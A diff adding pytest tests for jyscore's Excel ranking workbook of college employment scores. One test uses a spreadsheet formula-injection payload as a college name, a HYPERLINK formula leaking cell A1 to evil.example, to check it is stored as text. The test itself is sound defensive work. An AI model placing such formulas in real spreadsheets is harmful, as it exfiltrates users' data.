@@ -1,0 +1,115 @@
+"""The ranking workbook: `jyscore rank … -o X.xlsx`."""
+
+from __future__ import annotations
+
+from decimal import Decimal
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from jyscore import load_sheet, score
+from jyscore.cli import cli
+from jyscore.excel.ranking import sheet_title, write_ranking_workbook
+from jyscore.ranking import rank
+
+from .conftest import ROOT
+from .sheets import sheet_text
+
+EXAMPLES = ROOT / "examples" / "2024"
+
+
+@pytest.fixture(scope="module")
+def workbook(tmp_path_factory) -> openpyxl.Workbook:
+    path = tmp_path_factory.mktemp("rank") / "2024-排名.xlsx"
+    result = CliRunner().invoke(cli, ["rank", str(EXAMPLES), "-o", str(path)])
+    assert result.exit_code == 0, result.output
+    return openpyxl.load_workbook(path)
+
+
+def test_sheets(workbook):
+    names = workbook.sheetnames
+    assert names[:2] == ["排名", "总分图"] and names[-1] == "说明"
+    assert sorted(names[2:-1]) == sorted(p.stem for p in EXAMPLES.glob("*.yaml"))
+
+
+def test_ranking_sheet_matches_the_engine(workbook, rubric):
+    ws = workbook["排名"]
+    header = [c.value for c in ws[1]]
+    assert header == ["排名", "学院", "组织领导", "市场开发与建设", "就业指导与服务", "就业管理", "工作成效",
+                      "基础分", "加分", "总分"]
+    assert ws.freeze_panes == "C2"
+    assert ws.auto_filter.ref == f"A1:J{ws.max_row}"
+    assert ws["A1"].font.bold and ws["A1"].fill.fgColor.rgb.endswith("D9E1F2")
+    results = [score(rubric, load_sheet(p, rubric)) for p in EXAMPLES.glob("*.yaml")]
+    expected = rank(results)
+    for row, ranked in zip(ws.iter_rows(min_row=2, values_only=True), expected.rows):
+        assert row[0] == ranked.rank and row[1] == ranked.college
+        assert Decimal(repr(row[-1])) == ranked.total
+        assert Decimal(repr(row[-3])) == ranked.base and Decimal(repr(row[-2])) == ranked.bonus
+    assert ws["J2"].number_format == "0.0"  # every score is a multiple of 0.5: one place, exact
+
+
+def test_chart_of_totals(workbook):
+    charts = workbook["总分图"]._charts
+    assert len(charts) == 1
+    chart = charts[0]
+    assert chart.tagname == "barChart"
+    assert "排名" in str(chart.series[0].val.numRef.f)
+
+
+def test_detail_sheet_per_college(workbook):
+    ws = workbook["文学院"]
+    rows = list(ws.iter_rows(values_only=True))
+    assert rows[0][0] == "文学院 2024"
+    assert rows[2] == ("编号", "指标", "分值", "自评分数", "考核分数", "差值", "备注")
+    by_id = {r[0]: r for r in rows[3:] if r[0]}
+    assert by_id["1.1"][1:6] == ("领导重视", 6, 6, 5.5, 0.5)
+    assert by_id["6.1.1"][6] == "目标就业率 89.4；毕业生人数 125；就业人数 120"
+    assert rows[-1][1:5] == ("总分", None, 104, 98)
+
+
+def test_about_sheet_names_rubric_and_tie_policy(workbook):
+    text = " ".join(str(v) for row in workbook["说明"].iter_rows(values_only=True) for v in row if v)
+    assert "imnu-employment" in text and "ties share a rank" in text and "考核分数" in text
+
+
+def test_a_college_named_like_a_formula_is_text(tmp_path: Path):
+    sheets = tmp_path / "sheets"
+    sheets.mkdir()
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
+    (sheets / "evil.yaml").write_text(sheet_text(college=f"'{evil.replace(chr(39), chr(39) * 2)}'"),
+                                      encoding="utf-8")
+    (sheets / "b.yaml").write_text(sheet_text(college="+SUM(1,2)"), encoding="utf-8")
+    out = tmp_path / "r.xlsx"
+    result = CliRunner().invoke(cli, ["rank", str(sheets), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    workbook = openpyxl.load_workbook(out)
+    colleges = {workbook["排名"].cell(r, 2).value: workbook["排名"].cell(r, 2) for r in (2, 3)}
+    assert set(colleges) == {evil, "+SUM(1,2)"}
+    assert all(cell.data_type == "s" for cell in colleges.values())
+    # and in its own sheet, whose title had to lose the characters a title may not have
+    detail = [ws for ws in workbook.worksheets if ws.title.startswith("=HYPERLINK")][0]
+    assert detail["A1"].value == f"{evil} 2024" and detail["A1"].data_type == "s"
+
+
+def test_sheet_titles_are_valid_and_unique():
+    taken = {"排名", "说明"}
+    assert sheet_title("a/b:c", taken) == "a_b_c"
+    long = "很长的学院名称" * 6
+    first = sheet_title(long, taken)
+    taken.add(first)
+    second = sheet_title(long, taken)
+    assert len(first) <= 31 and len(second) <= 31 and first != second
+    assert sheet_title("排名", taken) == "排名 (2)"
+    assert sheet_title("'", taken) == "_"
+
+
+def test_library_writer(tmp_path: Path, rubric):
+    results = [score(rubric, load_sheet(p, rubric)) for p in sorted(EXAMPLES.glob("*.yaml"))]
+    path = tmp_path / "r.xlsx"
+    write_ranking_workbook(rank(results), rubric, path)
+    assert openpyxl.load_workbook(path)["排名"]["B2"].value == "化学与环境科学学院"
+    with pytest.raises(Exception):
+        write_ranking_workbook(rank(results), rubric, path)  # never overwrites by default
